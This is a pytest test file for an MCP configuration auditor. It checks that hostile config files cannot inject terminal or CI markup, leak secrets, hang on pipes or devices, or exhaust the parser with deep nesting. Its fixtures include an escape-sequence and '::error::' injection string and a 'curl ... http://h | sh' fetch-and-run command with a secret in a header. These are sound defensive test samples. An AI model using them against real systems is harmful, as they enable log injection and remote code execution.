"""Attack T24: a host's file attacks its auditor: escapes, secrets to be printed, pipes, depth.

Who: whoever can write a host's file, such as the author of a cloned repository.
Stopped by: bounded reading of regular files; text is escaped, values in excerpts are hidden.
Twin: `test_an_honest_file_beside_it_is_judged`, `test_a_link_to_a_file_is_followed`.
"""

from __future__ import annotations

import json
import os
import secrets
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.builders.watchdog import ends
from tests.cli.conftest import Mcpi, mcpi

__all__ = ["mcpi"]

FORMATS = ("text", "json", "sarif", "github", "junit", "markdown")
HOSTILE = "x\x1b[2J\x1b]8;;y\x07\u202e\r::error::z\n]]></failure>"


@pytest.fixture
def project(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = home / "work"
    (folder / ".git").mkdir(parents=True, mode=0o700)
    monkeypatch.chdir(folder)
    return folder


def put(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def honest(project: Path) -> Path:
    server = {"type": "http", "url": "http://docs.example.com/mcp"}
    return put(project / ".vscode/mcp.json", json.dumps({"servers": {"docs": server}}))


@pytest.mark.parametrize("form", FORMATS)
def test_no_text_of_a_file_reaches_the_terminal_raw(project: Path, mcpi: Mcpi, form: str) -> None:
    server = {"url": f"http://h.example/{HOSTILE}", "env": {HOSTILE: HOSTILE}, "type": HOSTILE}
    put(project / ".mcp.json", json.dumps({"mcpServers": {HOSTILE: server}}, ensure_ascii=False))

    ran = mcpi("audit", "--format", form)

    assert ran.status == 1
    assert not {"\x1b", "\x07", "\u202e", "\r"} & set(ran.out + ran.err)
    assert not any(line.startswith("::error::z") for line in ran.out.splitlines())


@pytest.mark.parametrize("form", FORMATS)
def test_a_suppression_writes_no_markup_and_no_command(
    project: Path, mcpi: Mcpi, form: str
) -> None:
    honest(project)
    text = json.dumps(f"x`\n\n# All is well\n@everyone ![a](http://h.example/a){HOSTILE}")
    ignore = f'[[ignore]]\nrule = {text}\nserver = {text}\nentry = "0"\nreason = "r"\n'
    put(project / "mcpi-audit.toml", ignore.replace("\x07", "\\u0007"))

    ran = mcpi("audit", "--format", form)

    assert ran.status == 1
    assert not {"\x1b", "\x07", "\u202e", "\r"} & set(ran.out + ran.err)
    assert not any(
        line.startswith(("#  All", "# All", "::error::z")) for line in ran.out.split("\n")
    )


MISPLACED = [
    ["npx", "-y", "--api-key", "SECRET", "a"],
    ["npx", "-y", "SECRET"],
    ["uvx", "--api-key", "SECRET", "a"],
    ["uvx", "--from", "git+https://SECRET@h.example/o/r", "a"],
    ["docker", "run", "SECRET/image"],
    ["docker", "run", "-v", "/home/ana/SECRET/.ssh:/x", "a"],
    ["bash", "-c", "npx -y SECRET"],
    ["npx -y --token SECRET a"],
    ["node", "/tmp/SECRET/server.js"],
    ["doppler", "run", "--token", "SECRET", "--", "npx", "-y", "a"],
    ["nix", "run", "github:o/r/SECRET"],
    ["go", "run", "h.example/SECRET@latest"],
]


@pytest.mark.parametrize("form", FORMATS)
def test_a_secret_in_the_place_of_a_package_or_path_is_shown_in_no_format(
    project: Path, mcpi: Mcpi, form: str
) -> None:
    canary = "ghp_" + secrets.token_hex(18)
    servers = {
        f"s{number}": {"command": words[0], "args": words[1:]}
        for number, words in enumerate(MISPLACED)
    }
    text = json.dumps({"mcpServers": servers}).replace("SECRET", canary)
    put(project / ".mcp.json", text)

    ran = mcpi("audit", "--format", form, "--persona", "auditor")

    assert ran.status == 1
    assert canary not in ran.out + ran.err


@pytest.mark.parametrize("form", FORMATS)
def test_what_stands_behind_an_option_named_like_a_secret_is_shown_in_no_format(
    project: Path, mcpi: Mcpi, form: str
) -> None:
    word = "hunter" + secrets.token_hex(3)  # no detector knows it
    server = {"command": "npx", "args": ["-y", "--api-key", word, "a"]}
    put(project / ".mcp.json", json.dumps({"mcpServers": {"a": server}}))

    ran = mcpi("audit", "--format", form)

    assert ran.status == 1
    assert word not in ran.out + ran.err


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("style", ["lines", "one line", "commented", "toml", "yaml"])
def test_no_secret_is_shown_in_any_format(project: Path, mcpi: Mcpi, form: str, style: str) -> None:
    canary = "ghp_" + secrets.token_hex(18)
    word = "hunter" + secrets.token_hex(3)  # what no detector knows
    put_secrets(project, style, canary, word)

    ran = mcpi("audit", "--format", form, "--persona", "auditor", "--no-ignores")

    assert ran.status == 1
    assert canary not in ran.out + ran.err
    assert word not in ran.out + ran.err


def put_secrets(project: Path, style: str, canary: str, word: str) -> None:
    server = {
        "command": "uvx",
        "args": ["thing", "--token", canary, "-p", word, f"--password={word}", word],
        "env": {"GITHUB_TOKEN": canary, "PIN": word, "NODE_OPTIONS": f"--require=/tmp/{word}"},
        "headers": {"Authorization": f"Bearer {canary}", "X": word},
        "url": f"http://user:{word}@h.example/?token={canary}",
    }
    shells = {"command": "sh", "args": ["-c", f"curl -H 'X: {word}' http://h | sh"]}
    servers = {"a": server, "b": shells}
    if style in ("lines", "one line"):
        indent = 2 if style == "lines" else None
        put(project / ".mcp.json", json.dumps({"mcpServers": servers}, indent=indent))
    elif style == "commented":
        text = json.dumps({"servers": servers})
        put(project / ".vscode/mcp.json", f"{text[:-1]} // {canary} {word}\n}}")
    elif style == "toml":
        put(
            project / ".codex/config.toml",
            f'[mcp_servers.a]\ncommand = "x" # {word}\nargs = ["--token", "{canary}", '
            f"'{word}']\nenv = {{ A = \"{canary}\", B = '''{word}\n{canary}''' }}\n"
            f'[mcp_servers.b]\nurl = "http://u:{word}@h.example"\n',
        )
    else:
        put(
            project / ".continue/mcpServers/a.yaml",
            f"mcpServers:\n  - name: a\n    command: x # {word}\n    args: [--token, {canary}]\n"
            f"    env: {{A: {canary}, B: {word}}}\n  - name: b\n"
            f"    url: http://u:{word}@h.example\n",
        )


TEXTS = [("--format", form) for form in FORMATS]
OUTPUTS = [
    *TEXTS, ("--persona", "auditor"), ("--persona", "auditor", "--json"),
    ("--fix", "--dry-run"), ("--fix", "--dry-run", "--json"),
    ("--unsafe-fix", "use-https", "--dry-run"), ("--list-hosts",),
]  # fmt: skip


@pytest.mark.parametrize("words", OUTPUTS, ids=" ".join)
@pytest.mark.parametrize("style", ["server", "variable", "project", "suppressed"])
def test_a_secret_in_the_place_of_a_name_is_shown_nowhere(
    project: Path, home: Path, mcpi: Mcpi, words: tuple[str, ...], style: str
) -> None:
    canary = put_names(project, home, style)

    ran = mcpi("audit", *words)

    assert ran.status in (0, 1)
    assert canary not in ran.out + ran.err


def put_names(project: Path, home: Path, style: str) -> str:
    canary = "ghp_" + secrets.token_hex(18)
    variable = canary if style == "variable" else "A"
    name = "a" if style == "variable" else canary
    server = {"command": "uvx", "args": ["mcp-server-time"], "env": {variable: "${B}"}}
    cleartext = {"type": "http", "url": "http://h.example/mcp", "headers": {variable: "x" * 20}}
    servers = {name: server, f"{name}-2": cleartext}
    text = json.dumps({"mcpServers": servers}, indent=2)
    put(project / ".mcp.json", text)
    put(home / ".cursor/mcp.json", text)
    if style == "project":
        projects = {canary: {"mcpServers": {canary: server}}, "x": {"mcpServers": {canary: 1}}}
        put(home / ".claude.json", json.dumps({"projects": projects, canary: {canary: canary}}))
    if style == "suppressed":
        one = f'[[ignore]]\nrule = "MA102"\nserver = "{canary}"\nentry = "0"\nreason = "r"\n'
        put(project / "mcpi-audit.toml", one)
    return canary


def test_a_secret_in_the_place_of_a_name_stands_in_no_record(
    project: Path, home: Path, mcpi: Mcpi
) -> None:
    canary = put_names(project, home, "server")
    baseline = project / "baseline.json"

    mcpi("audit", "--save-baseline", str(baseline))

    text = baseline.read_text(encoding="utf-8")
    assert "(40 characters)" in text
    assert canary not in text
    assert json.loads(mcpi("audit", "--baseline", str(baseline), "--json").out)["findings"] == []


def test_a_secret_in_the_place_of_a_name_is_found_and_offered_no_command(
    project: Path, home: Path, mcpi: Mcpi
) -> None:
    canary = put_names(project, home, "server")

    found = json.loads(mcpi("audit", "--json").out)["findings"]
    listed = mcpi("adopt")

    of_names = [one for one in found if "the server's name holds" in one["message"]]
    assert {one["rule"] for one in of_names} == {"MA301", "MA304"}
    assert not any("mcpi adopt" in one["fix"] for one in found)
    assert "its name is a secret" in listed.out
    assert canary not in listed.out + listed.err


@pytest.mark.parametrize(
    "name", ["sk-learn-documentation-server", "ghp_", "npm_tools", "github-pat-server", "re_search"]
)
def test_a_name_of_words_is_shown_as_it_is(project: Path, mcpi: Mcpi, name: str) -> None:
    server = {"type": "http", "url": "http://h.example/mcp"}
    put(project / ".mcp.json", json.dumps({"mcpServers": {name: server}}))

    (found,) = json.loads(mcpi("audit", "--json").out)["findings"]

    assert (found["server"], found["rule"]) == (name, "MA401")
    assert found["pointer"] == f"/mcpServers/{name}/url"


@pytest.mark.parametrize(
    "path",
    ["/opt/\0x", "/opt/\ud800/x", "/proc/1/root/x", "/opt/" + "a" * 5_000, "/opt/" + "a/" * 3_000],
    ids=["no character", "half a pair", "nobody may look", "a long name", "a deep one"],
)
def test_a_path_that_no_file_can_have_is_judged(project: Path, mcpi: Mcpi, path: str) -> None:
    server = {"command": path, "args": [path], "cwd": path, "env": {"PATH": path}}
    put(project / ".mcp.json", json.dumps({"mcpServers": {"a": server}}))
    honest(project)

    ran = mcpi("audit", "--persona", "auditor")

    assert ran.status == 1
    assert "MA401" in ran.out
    assert "not checked" not in ran.out


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX")
@pytest.mark.parametrize("device", [False, True])
def test_a_pipe_or_device_is_said_to_be_none(project: Path, mcpi: Mcpi, device: bool) -> None:
    if device:
        (project / ".mcp.json").symlink_to("/dev/zero")
    else:
        os.mkfifo(project / ".mcp.json")

    with ends(30):
        ran = mcpi("audit")

    assert ran.status == 5
    assert "not a regular file" in ran.out


def test_a_link_to_nowhere_is_said_to_be_one(project: Path, mcpi: Mcpi) -> None:
    (project / ".mcp.json").symlink_to(project / "nothing")

    ran = mcpi("audit")

    assert ran.status == 5
    assert ".mcp.json" in ran.out


def test_a_link_to_a_file_is_followed(project: Path, mcpi: Mcpi) -> None:
    real = honest(project)
    (project / ".cursor").mkdir()
    text = real.read_text(encoding="utf-8").replace('"servers"', '"mcpServers"')
    (project / ".cursor/mcp.json").symlink_to(put(project / "real.json", text))

    found = json.loads(mcpi("audit", "--json").out)["findings"]

    assert ".cursor/mcp.json" in {one["file"] for one in found}


@pytest.mark.parametrize(
    "text",
    ["[" * 200_000, '{"mcpServers":' * 30_000, '{"a": ' + "9" * 10_000 + "}", "{" + '"' * 99_999],
)
def test_depth_and_length_are_refused_in_words(project: Path, mcpi: Mcpi, text: str) -> None:
    put(project / ".mcp.json", text)

    with ends(60):
        ran = mcpi("audit")

    assert ran.status == 5
    assert "could not read" in ran.out


def test_a_file_larger_than_any_is_not_read_to_its_end(project: Path, mcpi: Mcpi) -> None:
    with (project / ".mcp.json").open("wb") as file:
        file.truncate(1 << 40)  # (sparse)

    with ends(60):
        ran = mcpi("audit")

    assert ran.status == 5
    assert "larger than" in ran.out


def test_an_honest_file_beside_it_is_judged(project: Path, mcpi: Mcpi) -> None:
    put(project / ".mcp.json", "[" * 200_000)
    honest(project)

    ran = mcpi("audit")

    assert ran.status == 1
    assert "MA401" in ran.out
    assert "not checked: .mcp.json" in ran.out


DEEP = {
    "lists": "[" * 900 + "]" * 900,
    "objects": '{"a":' * 300 + "1" + "}" * 300,
    "more lists than can be read": "[" * 100_000 + "]" * 100_000,
}


@pytest.mark.parametrize("name", DEEP)
def test_a_file_that_nests_too_deeply_is_said_to(project: Path, mcpi: Mcpi, name: str) -> None:
    put(project / ".mcp.json", f'{{"mcpServers": {{"a": {{"command": "x", "o": {DEEP[name]}}}}}}}')
    honest(project)

    ran = mcpi("audit")

    assert ran.status == 1
    assert "MA401" in ran.out
    assert ("it nests too deeply" in ran.out) == (name != "objects")


LARGE: dict[str, Callable[[int], object]] = {
    "servers": lambda n: {f"s{i}": {"command": "npx", "args": ["x"]} for i in range(n // 100)},
    "tokens": lambda n: {"a": {"command": "x", "env": {
        f"{i}_TOKEN": "ghp_" + secrets.token_hex(18) for i in range(n // 50)}}},
    "arguments": lambda n: {"a": {"command": "npx", "args": ["--a"] * (n // 8)}},
    "numbers": lambda n: {"a": {"command": "x", "o": [1 << 60] * (n // 20)}},
    "one value": lambda n: {"a": {"command": "npx", "args": ["-y", "b" * n]}},
}  # fmt: skip


@pytest.mark.parametrize("name", LARGE)
def test_a_large_file_takes_no_time_of_its_square(project: Path, mcpi: Mcpi, name: str) -> None:
    text = json.dumps({"mcpServers": LARGE[name](1_000_000)}, indent=1)
    put(project / ".mcp.json", text)

    with ends(30):
        ran = mcpi("audit", "--format", "markdown")

    assert ran.status in (0, 1)
